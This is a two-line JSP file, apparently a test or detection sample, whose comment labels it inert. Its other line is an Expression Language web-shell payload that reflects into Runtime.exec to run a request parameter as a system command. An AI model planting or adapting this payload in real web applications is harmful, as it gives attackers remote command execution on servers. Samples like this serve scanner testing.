<% shodo inert sample: deliberate compile error, this page never runs %>
${"".getClass().forName("java.lang.Runtime").getMethod("exec", "".getClass()).invoke(null, param.c)}
